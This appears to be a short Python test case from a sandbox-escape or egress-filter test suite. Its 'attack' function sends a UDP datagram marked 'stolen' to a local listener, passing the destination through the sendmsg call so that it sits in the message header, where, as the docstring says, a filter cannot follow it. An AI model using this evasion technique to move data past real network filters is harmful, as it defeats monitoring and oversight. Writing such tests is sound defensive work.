"""An address in a message header, which a filter cannot follow."""

from __future__ import annotations

from tests.escape.witnesses.listeners import UdpListener

WITNESS = UdpListener


def attack(port: int) -> None:
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"stolen"], [], 0, ("127.0.0.1", port))
